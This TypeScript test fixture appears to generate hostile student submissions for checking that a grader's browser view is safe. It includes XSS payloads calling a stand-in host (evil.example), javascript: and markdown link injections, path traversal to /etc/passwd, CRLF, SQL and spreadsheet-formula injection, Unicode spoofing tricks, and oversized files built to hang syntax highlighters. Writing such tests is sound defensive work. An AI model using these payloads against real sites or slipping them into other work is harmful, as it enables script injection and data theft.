/** Submissions that attack the grader's browser. */
import type { Files } from '@lectern/testkit/git-folder';

/** A string that is executed sets `pwned` or requests something from `evil.example`. */
export const hostileStrings = [
  '<script>pwned=1</script>',
  '</textarea><script>pwned=1</script>',
  '</script><script>pwned=1</script>',
  '<img src=x onerror=pwned=1>',
  '<img src=//evil.example/a.png>',
  '<svg onload=pwned=1>',
  '<svg><script>pwned=1</script></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<iframe src=javascript:parent.pwned=1>',
  '<object data=//evil.example/a.swf>',
  '<embed src=//evil.example/a>',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<style>@import "//evil.example/a.css"</style>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input autofocus onfocus=pwned=1></form>',
  '<a href="javascript:pwned=1">click</a>',
  '<details open ontoggle=pwned=1>',
  '<video><source onerror=pwned=1></video>',
  '<body onload=pwned=1>',
  '<math><mtext><script>pwned=1</script></mtext></math>',
  '<template><script>pwned=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
  '<!--><img src=x onerror=pwned=1>-->',
  '<![CDATA[<script>pwned=1</script>]]>',
  '"><script>pwned=1</script>',
  "'-pwned=1-'",
  '${pwned=1}',
  '{{constructor.constructor("pwned=1")()}}',
  '`${pwned=1}`',
  'javascript:pwned=1',
  'JaVaScRiPt:pwned=1',
  'data:text/html,<script>pwned=1</script>',
  'vbscript:pwned=1',
  '[x](javascript:pwned=1)',
  '[x](JAVASCRIPT:pwned=1)',
  '[x](java\tscript:pwned=1)',
  '[x](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)',
  '[x](vbscript:pwned=1)',
  '![x](//evil.example/track.png)',
  '![x](https://evil.example/track.png)',
  '[![x](https://evil.example/t.png)](https://evil.example)',
  '[x]: javascript:pwned=1 "x"\n[x]',
  '<https://evil.example/>',
  '<javascript:pwned=1>',
  '[x](https://evil.example"onmouseover="pwned=1)',
  '| <img src=x onerror=pwned=1> |\n|---|\n| x |',
  '```html\n<script>pwned=1</script>\n```',
  '&lt;script&gt;pwned=1&lt;/script&gt;',
  '&#60;script&#62;pwned=1&#60;/script&#62;',
  '\u202Etxt.exe',
  'if (admin) { // \u2066\u2069 \u202E } check',
  'zero\u200Bwidth\u200Djoiner',
  'Z\u0351\u036B\u0343\u032A\u0302\u036B\u033D\u034F\u0334\u0319alg\u0338o',
  '\uFEFFbom',
  '\u2028line\u2029paragraph',
  '\u001B[31mred\u001B[0m \u0007',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  '%00%0d%0aSet-Cookie:a=b',
  'constructor __proto__ toString',
  '👩‍👩‍👧‍👦 🏳️‍🌈 𝕳𝖊𝖑𝖑𝖔',
  "'; drop table works; --",
  '=cmd|"/c calc"!A1',
];

/** Valid file names. */
const hostileNames = [
  '<script>pwned=1<script>.txt',
  '<img src=x onerror=pwned=1>.md',
  '"onmouseover="pwned=1".py',
  '\u202Egnp.exe',
  'zero\u200Bwidth.js',
  '__proto__',
  'constructor',
  'javascript:pwned=1',
  '${pwned=1}.ts',
  '%2e%2e%2f.txt',
  '#hash?query&x.html',
  ' leading and trailing ',
  '-rf',
  "quote'quote.c",
  '🎓.py',
  `${'long'.repeat(60)}.txt`,
];

const nested = (text: string) => text.repeat(20_000);

/** Texts that make careless syntax highlighters hang. */
const bombs: Files = {
  'bombs/parens.js': nested('('),
  'bombs/brackets.md': nested('['),
  'bombs/stars.md': nested('*a_'),
  'bombs/tags.html': nested('<a '),
  'bombs/quotes.py': `${nested('"')}x`,
  'bombs/comments.c': nested('/*'),
  'bombs/ticks.rb': nested('`'),
  'bombs/braces.css': nested('{'),
  'bombs/dollars.sh': nested('$('),
  'bombs/template.ts': nested('`${'),
  'bombs/yaml.yaml': nested('- '),
  'bombs/slashes.pl': nested('s/a/'),
};

/** The test opens every file in the grader. Folder `a` comes first. */
export function hostileFiles(): Files {
  // Two strings per line, because the page only contains rows near the viewport.
  const all = hostileStrings.map((text, index) => text + (index % 2 === 0 ? ' ' : '\n')).join('');
  const strings = kinds.map((kind) => [`strings.${kind}`, all]);
  const names = hostileNames.map((name) => [name, 'print(1)\n']);
  const files = Object.fromEntries(
    [...strings, ...names].map(([name, text]) => [`a/${name}`, text]),
  );
  return {
    ...(files as Files),
    ...bombs,
    'a/picture.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="pwned=1"/>',
    'a/page.html': '<!doctype html><script>pwned=1</script>',
    'a/fake.png': '<svg xmlns="http://www.w3.org/2000/svg" onload="pwned=1"/>',
    'a/broken.txt': Buffer.from([0x68, 0xc3, 0x28, 0xa0, 0xff, 0xfe, 0x69, 0x0a]),
    'a/binary.bin': Buffer.from(Array.from({ length: 512 }, (_, index) => index % 256)),
    'a/crlf.txt': 'one\r\ntwo\rthree\r\n',
    'a/link': { link: '/etc/passwd' },
    'a/one-line.js': `var x = "${'a'.repeat(1_500_000)}";`,
    'a/one-line-5mb.js': `var x = "${'a'.repeat(5_000_000)}";`,
    'a/many-lines.txt': '\n'.repeat(300_000),
    [`a/${'d/'.repeat(60)}deep.txt`]: 'deep\n',
    'b/zeros.dat': Buffer.alloc(99 * 1024 * 1024),
    'b/lines.py': Array.from(
      { length: 20_000 },
      (_, line) => `x${line} = f(${line})  # ${line}`,
    ).join('\n'),
  };
}

export function manyFiles(): Files {
  return Object.fromEntries(
    Array.from({ length: 10_000 }, (_, index) => [`many/f${index}.txt`, `file ${index}\n`]),
  );
}

const kinds = ['txt', 'md', 'html', 'js', 'py'];
